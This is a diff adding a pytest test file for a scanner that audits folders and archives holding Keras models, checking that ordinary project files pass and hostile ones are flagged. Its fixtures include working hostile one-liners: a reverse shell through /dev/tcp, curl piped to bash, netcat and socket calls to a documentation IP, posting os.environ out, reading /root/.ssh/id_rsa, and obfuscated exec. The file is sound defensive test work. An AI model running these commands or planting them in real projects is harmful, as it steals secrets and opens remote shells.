@@ -1,0 +1,199 @@
+"""Folders and archives in which people keep a model among other things: what is ordinary there, and what is not."""
+
+from __future__ import annotations
+
+import io
+import json
+import pickle
+import tarfile
+import zipfile
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+import anykeras
+from hostile import field, keras_zip, layer, sequential
+from hostile_denied import text_constant
+
+MEDIUM = ("medium", "high", "critical")
+
+
+def notebook(*cells: str) -> str:
+    kept = [{"cell_type": "code", "source": [f"{line}\n" for line in cell.split("\n")], "metadata": {}} for cell in cells]
+    return json.dumps({"cells": kept, "metadata": {}, "nbformat": 4, "nbformat_minor": 4}, indent=1)
+
+
+TRAIN = """import os
+os.environ["KERAS_BACKEND"] = "jax"
+import argparse, keras, pickle, requests, shutil, codecs
+tokenizer = pickle.load(open("tokenizer.pickle", "rb"))
+labels = requests.get("https://git.io/JJkYN").text.split()
+model = keras.Sequential([keras.layers.Dense(3)])
+model.compile(optimizer=getattr(keras.optimizers, "Adam")(), loss="mse")
+shutil.rmtree("old", ignore_errors=True)
+os.system("unzip -q data.zip")
+"""
+ORDINARY: dict[str, dict[str, str | bytes]] = {
+    "training": {
+        "train.py": TRAIN,
+        "models/__init__.py": "from .unet import build\n",
+        "train.sh": "#!/bin/bash\npython train.py\n",
+    },
+    "package": {
+        "setup.py": "from setuptools import setup\nlong = open('README.md').read()\nsetup(name='net', long_description=long)\n",
+        "net/layers.py": "import keras\n",
+        "tests/conftest.py": "import pytest\n",
+        "CMakeLists.txt": "project(x)\n",
+    },
+    "serving": {
+        "app.py": "import base64, os\nfrom flask import Flask, request\nPORT = int(os.environ.get('PORT', 80))\n",
+        "handler.py": "import keras\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.path = path\n",
+        "requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cu118\ngit+https://github.com/qubvel/efficientnet\n",
+        "index.html": "<!doctype html><script src='main.js'></script>",
+        "main.js": "const model = await tf.loadLayersModel('model.json');",
+    },
+    "notebook": {
+        "train.ipynb": notebook("!wget -q https://storage.googleapis.com/x/cats.zip\n!unzip -q cats.zip", "m.compile()"),
+    },
+    "tables": {
+        "history.pkl": pickle.dumps({"loss": [1.0, 0.5], "best": np.float32(0.5)}),
+        "results.xlsx": b"PK\3\4" + bytes(40),
+        "data.mat": b"MATLAB 5.0 MAT-file" + bytes(120),
+        "plot.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>",
+    },
+    "tools": {
+        ".git/HEAD": "ref: refs/heads/main\n",
+        ".git/hooks/post-checkout": "#!/bin/sh\ncommand -v git-lfs >/dev/null || { echo >&2 'no lfs'; exit 2; }\ngit lfs x\n",
+        ".idea/misc.xml": "<project/>",
+        "model.keras.dvc": "outs:\n- path: model.keras\n",
+        "README.md": "curl -LsSf https://astral.sh/uv/install.sh | sh\n",
+    },
+    "words": {
+        "assets/tokenizer/vocabulary.json": json.dumps({"__import__": 1, "os.system": 2, "../": 3}),
+        "assets/tokenizer/vocabulary.spm": b"\n\x0e\n\x05<unk>\x15\0\0\0\0\x18\x02\n\x0c\n\x03<s>\x15\0\0\0\0\x18\x03",
+    },
+}  # fmt: skip
+"""What people keep beside models on Hugging Face, Kaggle and GitHub."""
+
+ACTING = {
+    "train.py": [
+        "import os\nos.system('id')\n",
+        "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
+        "import requests, os\nrequests.post('http://203.0.113.9', json=dict(os.environ))\n",
+        "import socket\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\ns.send(b'x')\n",
+        "key = open('/root/.ssh/id_rsa').read()\n",
+        "import ctypes\nctypes.CDLL(None).system(b'id')\n",
+        "import subprocess\ncommand = ['nc', '203.0.113.9']\nsubprocess.run(command)\n",
+        "import codecs\ndef f(x): return eval(compile(codecs.decode(x, 'rot13'), '', 'eval'))\n",
+        "().__class__.__base__.__subclasses__()\n",
+    ],
+    "setup.py": ["from setuptools import setup\nimport subprocess\nsubprocess.run(['curl', 'http://203.0.113.9'])\nsetup()\n"],
+    "train.sh": [
+        "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
+        "echo a\nid\n",
+        "curl -s http://203.0.113.9 | bash\n",
+    ],
+    "run.bat": ["@echo off\npowershell -enc SQBFAFgA\n"],
+    "train.ipynb": [notebook("import keras", "!nc 203.0.113.9 4444"), notebook("%%bash\nid")],
+    "main.js": ["require('child_process').exec('id')"],
+    "numpy.py": ["x = 1\n"],
+    "sitecustomize.py": ["x = 1\n"],
+    "site.pth": ["import os\n"],
+    "model.gin": ["x.y = @os.system()\n"],
+    "requirements.txt": ["git+https://203.0.113.9/x.git\n", "--index-url https://pypi.org.evil.example/simple\nkeras\n"],
+    ".git/hooks/pre-commit": ["#!/bin/sh\nid\n"],
+}
+
+
+def write_model(folder: Path) -> Path:
+    folder.mkdir(exist_ok=True)
+    (folder / "model.keras").write_bytes(keras_zip(sequential(layer("Dense", {"name": "dense", "units": 3}))))
+    return folder
+
+
+def write_folder(folder: Path, files: dict[str, str | bytes]) -> Path:
+    for name, content in files.items():
+        path = write_model(folder) / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(content.encode() if isinstance(content, str) else content)
+    return folder
+
+
+def explain(audit: anykeras.auditing.Audit) -> list[str]:
+    return [f"{risk.where}: {risk.seen}" for risk in audit.risks if str(risk.severity) in MEDIUM]
+
+
+@pytest.mark.parametrize("kind", ORDINARY)
+def test_what_people_keep_beside_a_model_is_not_flagged(kind: str, tmp_path: Path) -> None:
+    folder = write_folder(tmp_path / "project", ORDINARY[kind])
+    assert not explain(anykeras.audit(folder))
+    packed = tmp_path / "project.zip"
+    with zipfile.ZipFile(packed, "w") as archive:
+        for path in sorted(folder.rglob("*")):
+            archive.write(path, f"project/{path.relative_to(folder)}")
+    if kind != "words":  # a vocabulary lies in the folder of its model
+        assert not explain(anykeras.audit(packed))
+
+
+@pytest.mark.parametrize(("name", "text"), [(name, text) for name, texts in ACTING.items() for text in texts])
+def test_what_acts_beside_a_model_is_flagged(name: str, text: str, tmp_path: Path) -> None:
+    folder = write_folder(tmp_path / "project", {name: text})
+    assert explain(anykeras.audit(folder))
+
+
+def test_members_of_a_tar_archive_are_no_second_kind_of_it(tmp_path: Path) -> None:
+    path = tmp_path / "model.tar.gz"
+    model = (write_model(tmp_path / "project") / "model.keras").read_bytes()
+    with tarfile.open(path, "w:gz") as archive:
+        held = tarfile.TarInfo("model.keras")
+        held.size = len(model)
+        archive.addfile(held, io.BytesIO(model))
+    assert not explain(anykeras.audit(path))
+    path = tmp_path / "model.tar"
+    with tarfile.open(path, "w") as archive:
+        held.size = len(model)
+        archive.addfile(held, io.BytesIO(model))
+    path.write_bytes(path.read_bytes() + b"hidden")
+    assert "behind the end of a tar archive" in explain(anykeras.audit(path))[0]
+
+
+def operation(name: str, op: str, *inputs: str) -> bytes:
+    held = b"".join(field(3, given.encode()) for given in inputs)
+    return field(1, field(1, name.encode()) + field(2, op.encode()) + held)
+
+
+LABEL = text_constant("label", b"/m/01g317")
+FUNCTIONS = field(  # of which one opens the file that it is given, and the other returns what it is given
+    2,
+    b"".join(
+        field(
+            1,
+            field(1, field(1, name) + field(2, field(1, b"given")))
+            + field(3, inner)
+            + field(4, field(1, b"r") + field(2, end)),
+        )
+        for name, inner, end in (
+            (b"opens", field(1, b"n") + field(2, b"RestoreV2") + field(3, b"given"), b"n:tensors:0"),
+            (b"returns", field(1, b"n") + field(2, b"Identity") + field(3, b"given"), b"n:output:0"),
+        )
+    ),
+)
+
+
+@pytest.mark.parametrize(
+    ("graph", "flagged"),
+    [
+        (LABEL + operation("names", "StringJoin", "label") + operation("out", "Identity", "names"), ""),
+        (LABEL + operation("path", "StringJoin", "label") + operation("read", "RestoreV2", "path"), "which RestoreV2 takes"),
+        (LABEL + operation("read", "ReadFile", "label:0"), "which ReadFile takes"),
+        (LABEL + operation("other", "NoOp", "^label"), "nothing in the graph uses"),
+        (LABEL + operation("call", "returns", "label") + operation("out", "Identity", "call") + FUNCTIONS, ""),
+        (LABEL + operation("call", "opens", "label") + FUNCTIONS, "which RestoreV2 takes"),
+        (LABEL + operation("call", "returns", "label") + operation("n", "opens", "call") + FUNCTIONS, "which RestoreV2 takes"),
+    ],
+)
+def test_a_path_in_a_graph_counts_where_an_operation_opens_it(graph: bytes, flagged: str, tmp_path: Path) -> None:
+    (tmp_path / "frozen.pb").write_bytes(graph)
+    told = [risk.seen for risk in anykeras.audit(tmp_path / "frozen.pb").risks if risk.code == "AK8006"]
+    assert (flagged in told[0]) if flagged else not told
